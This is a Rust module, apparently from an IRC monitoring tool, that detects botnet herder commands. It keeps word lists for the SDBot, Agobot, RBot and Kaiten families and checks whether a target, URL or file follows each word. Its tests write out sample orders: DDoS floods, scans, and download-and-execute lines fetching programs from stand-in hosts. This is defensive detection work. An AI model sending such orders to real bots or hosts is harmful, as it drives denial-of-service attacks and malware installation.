//! Orders as bots take them: the words of the families, and what has to follow them.
//!
//! A word alone proves little, because channel robots for people have `!help`, `!seen` and
//! `!scan` too. With a target (an address, a URL, a file) nobody but a herder says it.

use std::net::{IpAddr, Ipv4Addr};

/// Signs that stand before an order, so that a bot knows it from talk.
const MARKS: [char; 14] = [
    '.', '!', '-', '@', '$', '%', '^', '&', '*', ';', '~', '?', '>', '=',
];
/// How much of a text is kept to be shown.
const SHOWN_CHARS: usize = 60;

/// What has to follow a word for it to be an order beyond doubt.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Needs {
    /// Nothing: no person uses the word behind a mark.
    Nothing,
    /// An address, a range of addresses, or what selects one.
    Target,
    /// A URL.
    Url,
    /// A path, or the name of a program.
    File,
    /// Whatever follows, it stays a word that people's robots have too.
    Never,
}

/// Words of one kind, what has to follow, and why they are here.
struct Family {
    words: &'static [&'static str],
    needs: Needs,
    #[cfg_attr(
        not(test),
        expect(dead_code, reason = "for who reads or changes the table")
    )]
    why: &'static str,
}

const FAMILIES: &[Family] = &[
    Family {
        words: &[
            "advscan",
            "asc",
            "ntscan",
            "scanall",
            "scan.start",
            "scan.startall",
            "xscan",
            "wscan",
            "vscan",
            "telnetscan",
            "sshscan",
        ],
        needs: Needs::Nothing,
        why: "SDBot, RBot, Agobot and IoT bots: spread by scanning",
    },
    Family {
        words: &["scan", "portscan", "scanner", "scan.range"],
        needs: Needs::Target,
        why: "the plain word; robots for people scan files with it",
    },
    Family {
        words: &[
            "ddos",
            "ddos.syn",
            "ddos.ack",
            "ddos.udp",
            "ddos.http",
            "ddos.random",
            "ddos.synflood",
            "ddos.udpflood",
            "ddos.httpflood",
            "ddos.phatwonk",
            "udp",
            "udpflood",
            "udp1",
            "syn",
            "synflood",
            "tcp",
            "tcpflood",
            "icmp",
            "icmpflood",
            "ack",
            "http",
            "httpflood",
            "pan",
            "tsunami",
            "std",
            "stdflood",
            "junk",
            "hold",
            "unknown",
            "vse",
            "supersyn",
            "wisdom",
            "flood",
            "attack",
            "ping",
            "pingflood",
            "xmas",
            "ovh",
        ],
        needs: Needs::Target,
        why: "floods of Agobot, RBot, Kaiten and its descendants, Gafgyt: they need a victim",
    },
    Family {
        words: &[
            "download",
            "dl",
            "dlx",
            "update",
            "upd",
            "wget",
            "http.download",
            "http.execute",
            "http.update",
            "http.visit",
            "ftp.download",
            "ftp.execute",
            "ftp.update",
            "bot.update",
            "get",
            "visit",
            "install",
        ],
        needs: Needs::Url,
        why: "fetch a program and run it: all families",
    },
    Family {
        words: &[
            "execute",
            "exec",
            "bot.execute",
            "sh",
            "bash",
            "shell",
            "cmd",
            "irc",
            "createprocess",
            "bot.command",
        ],
        needs: Needs::File,
        why: "run a program: all families; the words alone are harmless",
    },
    Family {
        words: &[
            "keylog",
            "keylogger",
            "findpass",
            "getcdkeys",
            "cdkeys",
            "pstore",
            "psniff",
            "sniffer",
            "harvest",
            "harvest.emails",
            "harvest.cdkeys",
            "harvest.aol",
            "getclip",
            "capture.screen",
            "capture.frame",
            "killthread",
            "killproc",
            "secure",
            "unsecure",
            "bot.remove",
            "bot.die",
            "bot.open",
            "bot.sysinfo",
            "bot.secure",
            "bot.unsecure",
            "inst.asadd",
            "cvar.set",
            "rsl.reboot",
            "redirect.tcp",
            "redirect.socks",
            "redirect.http",
            "socks4",
            "socks5",
            "rloginserver",
            "netinfo",
            "botinfo",
            "spam.start",
            "spam.setlist",
            "spam.settemplate",
            "aolspam",
            "emailspam",
            "killbots",
            "lockdown",
        ],
        needs: Needs::Nothing,
        why: "theft, relays and upkeep of Agobot, RBot, SDBot: words of a herder alone",
    },
    Family {
        words: &["spam", "mailer", "email", "mail", "spam.url"],
        needs: Needs::Url,
        why: "fetch a list of recipients or a template",
    },
    Family {
        words: &[
            "login",
            "auth",
            "logout",
            "sysinfo",
            "status",
            "uptime",
            "remove",
            "uninstall",
            "clone",
            "clones",
            "killall",
            "spread",
            "stop",
            "die",
            "version",
            "opencmd",
            "reconnect",
        ],
        needs: Needs::Never,
        why: "common to all bots, and to robots that people keep",
    },
];

/// Orders of Kaiten and its descendants, addressed to a mask of nicknames: `!* UDP host port`.
const MASKED: [&str; 22] = [
    "TSUNAMI",
    "PAN",
    "UDP",
    "UNKNOWN",
    "SYN",
    "STD",
    "HTTP",
    "JUNK",
    "HOLD",
    "TCP",
    "SERVER",
    "GETSPOOFS",
    "SPOOFS",
    "DISABLE",
    "ENABLE",
    "KILL",
    "GET",
    "SH",
    "KILLALL",
    "SCANNER",
    "BOTKILL",
    "LOLNOGTFO",
];

/// An order that was seen.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Order {
    /// Beyond doubt, because its target follows.
    pub(super) clear: bool,
    /// The order, cut.
    pub(super) words: String,
    /// Whom it is aimed at, when it names one host.
    pub(super) target: Option<Named>,
}

/// A target that an order names.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Named {
    /// An address, or the name in a URL.
    pub(super) host: String,
    /// What stands in a URL after it.
    pub(super) path: Option<String>,
}

/// Is there an order in this text? A topic may hold several.
pub(super) fn order(text: &str) -> Option<Order> {
    let mut weak = None;
    for part in text.split(['|', ';']).take(8) {
        match single(part.trim()) {
            Some(order) if order.clear => return Some(order),
            found => weak = weak.or(found),
        }
    }
    weak
}

fn single(part: &str) -> Option<Order> {
    let part = without_colour(part);
    let rest = part.strip_prefix(MARKS)?;
    let shown =
        || crate::printable(&part.chars().take(SHOWN_CHARS).collect::<String>()).into_owned();
    let mut words = rest.split_whitespace();
    let first = words.next()?;
    let second = words.clone().next();
    if part.starts_with(['!', '>', '.'])
        && first.contains('*')
        && second.is_some_and(|word| MASKED.contains(&word.to_ascii_uppercase().as_str()))
    {
        return Some(Order {
            clear: true,
            words: shown(),
            target: words.clone().take(6).find_map(named),
        });
    }
    let first = first.to_ascii_lowercase();
    let family = FAMILIES
        .iter()
        .find(|family| family.words.contains(&first.as_str()))?;
    let clear = match family.needs {
        Needs::Nothing => true,
        Needs::Never => false,
        Needs::Target => words.clone().take(4).any(is_target),
        Needs::Url => words.clone().take(6).any(is_url),
        Needs::File => words.clone().take(4).any(is_file),
    };
    // One that lacks what it needs is talk, except for what is common to all bots.
    (clear || family.needs == Needs::Never).then(|| Order {
        clear,
        words: shown(),
        target: words.take(6).find_map(named).filter(|_| clear),
    })
}

/// A colour of IRC may stand before the mark: a control letter and digits.
fn without_colour(part: &str) -> &str {
    match part.strip_prefix('\x03') {
        Some(rest) => {
            rest.trim_start_matches(|letter: char| letter.is_ascii_digit() || letter == ',')
        }
        None => part,
    }
    .trim_start_matches(|letter: char| letter.is_control() || letter == ' ')
}

/// An address, alone, with a port, as a network or with parts left open (`10.x.x.x`).
fn is_target(word: &str) -> bool {
    let host = word.split(['/', ':']).next().unwrap_or(word);
    if is_url(word) || host.parse::<Ipv4Addr>().is_ok() || word.parse::<IpAddr>().is_ok() {
        return true;
    }
    let parts: Vec<&str> = host.split('.').collect();
    let open = |part: &&str| {
        matches!(*part, "x" | "X" | "*") || part.parse::<u8>().is_ok() && part.len() <= 3
    };
    parts.len() == 4 && parts.iter().all(open)
}

/// The one host that a word names.
fn named(word: &str) -> Option<Named> {
    let word = word.trim_start_matches(['<', '"', '\'', '(']);
    let (host, path) = match word.split_once("://") {
        Some((_, rest)) => match rest.split_once('/') {
            Some((host, path)) => (host, Some(format!("/{path}"))),
            None => (rest, Some(String::new())),
        },
        None => (word, None),
    };
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    let name = match host.parse::<IpAddr>() {
        Ok(_) => host,
        Err(_) => host.split(':').next().unwrap_or(host),
    };
    let fits = path.is_some() && name.contains('.') || name.parse::<IpAddr>().is_ok();
    fits.then(|| Named {
        host: name.chars().take(SHOWN_CHARS).collect(),
        path: path.map(|path| path.chars().take(SHOWN_CHARS).collect()),
    })
}

fn is_url(word: &str) -> bool {
    let word = word.trim_start_matches(['<', '"', '\'', '(']);
    ["http://", "https://", "ftp://", "tftp://", "hxxp://"]
        .iter()
        .any(|scheme| {
            word.get(..scheme.len())
                .is_some_and(|start| start.eq_ignore_ascii_case(scheme))
        })
        || word
            .get(..4)
            .is_some_and(|start| start.eq_ignore_ascii_case("www."))
}

fn is_file(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    is_url(word)
        || lower.contains(":\\")
        || lower.starts_with('/')
        || lower.starts_with('%')
        || [".exe", ".bat", ".scr", ".pif", ".sh", ".dll", ".com"]
            .iter()
            .any(|end| lower.ends_with(end))
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_word_is_in_one_family_with_a_reason() {
        let mut seen = HashSet::new();
        for family in FAMILIES {
            assert!(!family.why.is_empty());
            for word in family.words {
                assert!(seen.insert(word), "{word}");
                assert_eq!(word.to_ascii_lowercase(), *word);
            }
        }
    }

    #[test]
    fn clear_orders() {
        for text in [
            ".advscan asn1smb 150 3 0 -r -b -s",
            "!scan 10.x.x.x",
            ".scan 10.0.0.0/8",
            "!ddos 192.0.2.1 80 60",
            ".ddos.syn 192.0.2.1 80 600",
            "!* UDP 192.0.2.1 80 60",
            "!x*y TSUNAMI host.example 60",
            "!* SH wget http://192.0.2.1/a",
            ".download http://192.0.2.1/a.exe c:\\a.exe 1",
            ".update http://host.example/b",
            ".execute E:\\malware.exe 0",
            ".keylog on",
            "@udpflood 192.0.2.1 60",
            "\x0304.advscan lsass 100",
            "hello | .http.download http://a.example/x c:\\x",
            "!http http://victim.example/ 60",
            "!mailer http://a.example/list.txt",
        ] {
            assert!(order(text).is_some_and(|order| order.clear), "{text}");
        }
    }

    #[test]
    fn words_that_people_use_too() {
        for text in [
            ".login r7vygh!",
            "!status",
            ".sysinfo",
            "!uptime",
            ".logout",
        ] {
            assert!(order(text).is_some_and(|order| !order.clear), "{text}");
        }
    }

    #[test]
    fn talk() {
        for text in [
            "!help",
            "!seen alice",
            ".oO(dream)",
            "...",
            "!",
            "",
            "http://a.example/",
            "!scan",
            "!update",
            "!get beer",
            "!weather 10.2",
            "- yes",
            "?help",
            "-> there",
            "download http://a.example/x",
            "!udp",
            "!ping alice",
            "!mail bob",
            ".exec now",
            "try 192.0.2.1",
            "!remind me at 10.30",
            "*hugs* TCP",
            "!install gentoo",
        ] {
            assert_eq!(order(text), None, "{text}");
        }
    }

    #[test]
    fn the_target_of_an_order() {
        let target = |text: &str| order(text).and_then(|order| order.target);
        let file = |host: &str, path: Option<&str>| {
            let (host, path) = (host.to_owned(), path.map(str::to_owned));
            Some(Named { host, path })
        };
        assert_eq!(
            target(".ddos.syn 192.0.2.77 80 60"),
            file("192.0.2.77", None)
        );
        assert_eq!(target("!* UDP 192.0.2.1:53 60"), file("192.0.2.1", None));
        assert_eq!(
            target(".download http://a.example:8080/x.exe c:\\x.exe 1"),
            file("a.example", Some("/x.exe"))
        );
        assert_eq!(target(".scan 10.x.x.x"), None, "a network");
        assert_eq!(target(".advscan lsass 100 5"), None);
    }

    proptest! {
        #[test]
        fn never_panics(text in ".{0,200}") {
            let _ = order(&text);
        }

        #[test]
        fn what_is_shown_is_short(text in "[.!@]advscan .{0,200}") {
            let shown = order(&text).map_or(0, |order| order.words.len());
            prop_assert!(shown <= SHOWN_CHARS * 10);
        }
    }
}
